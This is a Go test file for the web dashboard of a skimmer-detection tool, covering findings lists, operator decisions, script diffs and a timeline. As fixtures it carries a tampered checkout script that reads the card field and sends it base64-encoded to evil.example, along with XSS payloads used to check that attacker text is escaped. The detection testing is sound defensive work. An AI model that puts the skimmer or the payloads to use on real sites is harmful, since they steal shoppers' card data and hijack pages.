package web

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/check/verdict"
	"github.com/skimwatch/skimwatch/internal/finding"
	"github.com/skimwatch/skimwatch/internal/store"
)

var (
	viewer   = User{ID: 1, Name: "hana", Role: RoleViewer}
	operator = User{ID: 2, Name: "kenji", Role: RoleOperator}
	seenAt   = time.Date(2026, 11, 30, 11, 0, 0, 0, time.UTC)
)

func digest(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// put stores f under its default key and returns the key.
func put(t testing.TB, st store.Store, f finding.Finding) string {
	t.Helper()
	if f.Site == "" {
		f.Site = "shop"
	}
	if f.Time.IsZero() {
		f.Time = seenAt
	}
	key := store.FindingKey(f, f.Message)
	if _, err := st.PutFinding(t.Context(), key, f); err != nil {
		t.Fatal(err)
	}
	return key
}

const (
	approvedJS = "!function(){var n=document.querySelector('#pay');n.addEventListener('click',function(){send()})}();"
	tamperedJS = "!function(){var n=document.querySelector('#pay');n.addEventListener('click',function(){var c=document.querySelector('#cc').value;new Image().src='https://evil.example/c?d='+btoa(c);send()})}();"
)

func changedScript(t testing.TB, st store.Store) string {
	t.Helper()
	if err := st.PutScriptSources(t.Context(), []store.ScriptSource{
		{SHA256: digest(approvedJS), Source: approvedJS}, {SHA256: digest(tamperedJS), Source: tamperedJS},
	}); err != nil {
		t.Fatal(err)
	}
	return put(t, st, finding.Finding{Severity: finding.High, Kind: verdict.KindScriptChanged, Source: "check",
		Message: "The content of the approved script https://shop.example/app.js has changed.", URL: "https://shop.example/checkout",
		Evidence: map[string]any{"url": "https://shop.example/app.js", "sha256": digest(tamperedJS), "approved_sha256": digest(approvedJS)}})
}

func get(s *Server, u User, path string) *httptest.ResponseRecorder {
	r := httptest.NewRequest("GET", path, nil)
	r.Header.Set("Accept-Language", "en")
	return as(s, u, r)
}

func TestFindingsList(t *testing.T) {
	s, st := newTestServer(t)
	put(t, st, finding.Finding{Severity: finding.Critical, Kind: verdict.KindCardExfil, Source: "check", Message: "card went to evil"})
	put(t, st, finding.Finding{Severity: finding.Medium, Kind: "fim.modified", Source: "fim", Message: "file a.js changed", Path: "a.js"})
	resolved := put(t, st, finding.Finding{Severity: finding.High, Kind: "csp.new", Source: "collector", Message: "resolved one"})
	if _, err := st.SetFindingState(t.Context(), store.FindingDecision{Site: "shop", Key: resolved, State: store.StateResolved, Actor: "x"}); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, query string
		want, not   []string
	}{
		{"the list shows open findings by default", "", []string{"card went to evil", "file a.js changed"}, []string{"resolved one"}},
		{"a severity filter keeps only that severity", "?severity=medium", []string{"file a.js changed"}, []string{"card went to evil"}},
		{"a detector filter keeps only that detector", "?source=check", []string{"card went to evil"}, []string{"file a.js changed"}},
		{"a state filter shows resolved findings", "?state=resolved", []string{"resolved one"}, []string{"card went to evil"}},
		{"all states can be listed together", "?state=all", []string{"resolved one", "card went to evil", "file a.js changed"}, nil},
		{"a site filter for another site shows nothing", "?site=blog", []string{"No findings match"}, []string{"card went to evil"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := get(s, viewer, "/findings"+tc.query)
			if w.Code != http.StatusOK {
				t.Fatalf("status %d", w.Code)
			}
			for _, x := range tc.want {
				if !strings.Contains(w.Body.String(), x) {
					t.Errorf("page lacks %q", x)
				}
			}
			for _, x := range tc.not {
				if strings.Contains(w.Body.String(), x) {
					t.Errorf("page shows %q", x)
				}
			}
		})
	}
	t.Run("a bad filter is a 400 naming it", func(t *testing.T) {
		w := get(s, viewer, "/findings?severity=urgent")
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), "severity") {
			t.Fatalf("status %d", w.Code)
		}
	})
}

func TestFindingsListPages(t *testing.T) {
	s, st := newTestServer(t)
	for i := range DefaultPerPage + 7 {
		put(t, st, finding.Finding{Severity: finding.High, Kind: "k", Source: "check", Message: fmt.Sprintf("finding number %03d", i),
			Time: seenAt.Add(time.Duration(i) * time.Second)})
	}
	w := get(s, viewer, "/findings")
	body := w.Body.String()
	if strings.Count(body, "finding number") != DefaultPerPage || !strings.Contains(body, "finding number 056") || strings.Contains(body, "finding number 006") {
		t.Fatalf("first page: %d rows", strings.Count(body, "finding number"))
	}
	next := regexpFind(t, body, `href="(/findings\?[^"]*after=[^"]*)"`)
	w = get(s, viewer, htmlUnescape(next))
	body = w.Body.String()
	if strings.Count(body, "finding number") != 7 || !strings.Contains(body, "finding number 006") || strings.Contains(body, "finding number 007") {
		t.Fatalf("second page: %d rows: status %d", strings.Count(body, "finding number"), w.Code)
	}
}

func TestFindingDecisions(t *testing.T) {
	post := func(s *Server, u User, key string, form url.Values) *httptest.ResponseRecorder {
		r := httptest.NewRequest("POST", "/findings/"+key+"/state", strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return as(s, u, r)
	}
	t.Run("a viewer cannot decide", func(t *testing.T) {
		s, st := newTestServer(t)
		key := changedScript(t, st)
		if w := post(s, viewer, key, url.Values{"site": {"shop"}, "state": {"acknowledged"}}); w.Code != http.StatusForbidden {
			t.Fatalf("status %d, want 403", w.Code)
		}
	})
	t.Run("an operator's acknowledgement is stored and logged with who and when", func(t *testing.T) {
		s, st := newTestServer(t)
		key := changedScript(t, st)
		w := post(s, operator, key, url.Values{"site": {"shop"}, "state": {"acknowledged"}, "reason": {"looking"}})
		if w.Code != http.StatusSeeOther {
			t.Fatalf("status %d: %s", w.Code, w.Body)
		}
		fs, err := st.Findings(t.Context(), store.FindingQuery{Key: key})
		if err != nil || len(fs) != 1 || fs[0].State != store.StateAcknowledged || fs[0].Decision.Actor != "kenji" {
			t.Fatalf("stored %+v, %v", fs, err)
		}
		evs, err := st.Events(t.Context(), store.EventQuery{Type: "finding.acknowledged"})
		if err != nil || len(evs) != 1 || evs[0].Actor != "kenji" || evs[0].Site != "shop" || !strings.Contains(string(evs[0].Data), key) {
			t.Fatalf("events %+v, %v", evs, err)
		}
		page := get(s, operator, w.Header().Get("Location")).Body.String()
		if !strings.Contains(page, "Acknowledged. The decision is in the event log.") || !strings.Contains(page, "kenji") {
			t.Errorf("the page after the decision does not say it")
		}
	})
	t.Run("a dismissal without a reason is refused and nothing is logged", func(t *testing.T) {
		s, st := newTestServer(t)
		key := changedScript(t, st)
		if w := post(s, operator, key, url.Values{"site": {"shop"}, "state": {"dismissed"}}); w.Code != http.StatusBadRequest {
			t.Fatalf("status %d, want 400", w.Code)
		}
		if evs, _ := st.Events(t.Context(), store.EventQuery{}); len(evs) != 0 {
			t.Errorf("%d events logged", len(evs))
		}
	})
	t.Run("the API records a decision and answers it", func(t *testing.T) {
		s, st := newTestServer(t)
		key := changedScript(t, st)
		r := httptest.NewRequest("POST", "/api/findings/"+key+"/state", strings.NewReader(`{"site":"shop","state":"dismissed","reason":"our own A/B test"}`))
		w := as(s, operator, r)
		var d store.FindingDecision
		if w.Code != http.StatusOK || json.Unmarshal(w.Body.Bytes(), &d) != nil || d.State != store.StateDismissed || d.Reason != "our own A/B test" {
			t.Fatalf("status %d: %s", w.Code, w.Body)
		}
		r = httptest.NewRequest("POST", "/api/findings/"+key+"/state", strings.NewReader(`{"site":"shop","state":"resolved","extra":1}`))
		if w := as(s, operator, r); w.Code != http.StatusBadRequest {
			t.Errorf("unknown field: status %d, want 400", w.Code)
		}
	})
}

func TestFindingPage(t *testing.T) {
	s, st := newTestServer(t)
	t.Run("a changed script shows the beautified diff with the skimmer's lines added", func(t *testing.T) {
		key := changedScript(t, st)
		body := get(s, viewer, "/findings/"+key+"?site=shop").Body.String()
		ins := regexpAll(body, `<tr class="insert">.*?<td class="src">([^<]*)</td>`)
		if !containsAny(ins, "evil.example") || !containsAny(ins, "var c = document.querySelector") {
			t.Errorf("inserted lines %q lack the skimmer", ins)
		}
		del := regexpAll(body, `<tr class="delete">.*?<td class="src">([^<]*)</td>`)
		if containsAny(del, "evil.example") {
			t.Errorf("deleted lines %q hold the skimmer", del)
		}
		if !strings.Contains(body, digest(approvedJS)) || !strings.Contains(body, digest(tamperedJS)) {
			t.Errorf("the page does not name both digests")
		}
	})
	t.Run("the API twin carries the same diff", func(t *testing.T) {
		key := changedScript(t, st)
		w := get(s, viewer, "/api/findings/"+key+"?site=shop")
		var got struct {
			Diff struct {
				Added int `json:"added"`
				Hunks []struct {
					Lines []struct {
						Op   string `json:"op"`
						Text string `json:"text"`
					} `json:"lines"`
				} `json:"hunks"`
			} `json:"diff"`
		}
		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil || got.Diff.Added == 0 || len(got.Diff.Hunks) == 0 {
			t.Fatalf("status %d, %v: %s", w.Code, err, w.Body)
		}
	})
	t.Run("a honey leak shows the value, the destination, each encoding layer and the script", func(t *testing.T) {
		key := put(t, st, finding.Finding{Severity: finding.Critical, Kind: verdict.KindCardExfil, Source: "check", Message: "card skimmed",
			Evidence: map[string]any{"destination_origin": "https://evil.example", "values": []any{"card-number", "cvv"},
				"encodings": []any{"base64>xor(0x5a)>reversed"}, "destinations": []any{"https://evil.example/c?d=x"},
				"script": "https://shop.example/app.js", "phases": []any{"input", "unload"}, "request_types": []any{"Image"}}})
		body := get(s, viewer, "/findings/"+key+"?site=shop").Body.String()
		for _, want := range []string{"card number", "security code", "https://evil.example/c?d=x", ">base64<", ">xor(0x5a)<", ">reversed<", "https://shop.example/app.js", "while typing, when leaving the page"} {
			if !strings.Contains(body, want) {
				t.Errorf("page lacks %q", want)
			}
		}
	})
	t.Run("attacker-written text in a finding renders as text", func(t *testing.T) {
		key := put(t, st, finding.Finding{Severity: finding.High, Kind: verdict.KindScriptNew, Source: "check",
			Message: `<script>alert(1)</script>`, URL: `javascript:alert(2)`, Evidence: map[string]any{"url": `"><img src=x onerror=alert(3)>`}})
		for _, path := range []string{"/findings/" + key + "?site=shop", "/findings?state=all", "/timeline?site=shop"} {
			body := get(s, viewer, path).Body.String()
			if strings.Contains(body, "<script>alert") || strings.Contains(body, "<img src=x") || strings.Contains(body, `href="javascript:`) {
				t.Errorf("%s: payload rendered as markup", path)
			}
			if !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
				t.Errorf("%s: payload not shown as text", path)
			}
		}
	})
	t.Run("an unknown finding is 404", func(t *testing.T) {
		if w := get(s, viewer, "/findings/nope?site=shop"); w.Code != http.StatusNotFound {
			t.Errorf("status %d", w.Code)
		}
	})
}

func TestTimeline(t *testing.T) {
	s, st := newTestServer(t)
	at := seenAt
	for i := range timelinePageSize + 5 {
		typ := []string{"check", "fim verify", "scan", "audit"}[i%4]
		if _, err := st.AppendEvent(t.Context(), store.Event{Site: "shop", Type: typ, Actor: "skimwatch serve", Time: at.Add(time.Duration(i) * time.Minute),
			Data: json.RawMessage(fmt.Sprintf(`{"targets":["t%d"],"complete":%v,"findings":0,"max_severity":"none"}`, i, i != 3))}); err != nil {
			t.Fatal(err)
		}
	}
	// One finding early (on the second page), one late (on the first).
	put(t, st, finding.Finding{Severity: finding.High, Kind: "csp.new", Source: "collector", Message: "early csp finding", Time: at.Add(2*time.Minute + time.Second)})
	put(t, st, finding.Finding{Severity: finding.High, Kind: "fim.modified", Source: "fim", Message: "late file finding", Time: at.Add(50 * time.Minute)})

	first, next, err := s.timeline(t.Context(), "shop", 0)
	if err != nil {
		t.Fatal(err)
	}
	second, last, err := s.timeline(t.Context(), "shop", next)
	if err != nil {
		t.Fatal(err)
	}
	count := func(es []TimelineEntry, summary string) int {
		n := 0
		for _, e := range es {
			if e.Summary == summary {
				n++
			}
		}
		return n
	}
	t.Run("each finding falls on exactly one page, among the events of its time", func(t *testing.T) {
		if count(first, "late file finding") != 1 || count(second, "late file finding") != 0 {
			t.Errorf("late finding on pages: %d, %d", count(first, "late file finding"), count(second, "late file finding"))
		}
		if count(first, "early csp finding") != 0 || count(second, "early csp finding") != 1 {
			t.Errorf("early finding on pages: %d, %d", count(first, "early csp finding"), count(second, "early csp finding"))
		}
	})
	t.Run("pages run newest first and end", func(t *testing.T) {
		if len(first) != timelinePageSize+1 || last != 0 || len(second) != 5+1 {
			t.Fatalf("pages of %d and %d, last next %d", len(first), len(second), last)
		}
		for i := 1; i < len(first); i++ {
			if first[i].Time.After(first[i-1].Time) {
				t.Fatalf("entry %d is newer than the one before", i)
			}
		}
	})
	t.Run("entries name their source and an incomplete run says so", func(t *testing.T) {
		srcs := map[string]bool{}
		runs := 0
		for _, e := range append(first, second...) {
			srcs[e.Source] = true
			if e.Summary == "t3" {
				runs++
				if !e.Incomplete() {
					t.Errorf("run t3 not marked incomplete")
				}
			}
			if e.Summary == "t4" && (e.Incomplete() || e.FindingCount() != 0) {
				t.Errorf("run t4: incomplete %v, %d findings; want complete with 0", e.Incomplete(), e.FindingCount())
			}
		}
		if runs != 1 {
			t.Errorf("%d entries for run t3, want 1", runs)
		}
		for _, want := range []string{SourceCheck, SourceFiles, SourceScan, SourceAudit, SourceCSP} {
			if !srcs[want] {
				t.Errorf("no %s entry", want)
			}
		}
	})
	t.Run("the page and the API agree", func(t *testing.T) {
		body := get(s, viewer, "/timeline?site=shop").Body.String()
		if !strings.Contains(body, "late file finding") || !strings.Contains(body, "?before=") {
			t.Errorf("page lacks the late finding or the older link")
		}
		w := get(s, viewer, "/api/sites/shop/timeline")
		var got struct {
			Entries    []TimelineEntry `json:"entries"`
			NextBefore int64           `json:"next_before"`
		}
		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil || len(got.Entries) != len(first) || got.NextBefore != next {
			t.Errorf("API: %d entries, next %d, %v", len(got.Entries), got.NextBefore, err)
		}
	})
}
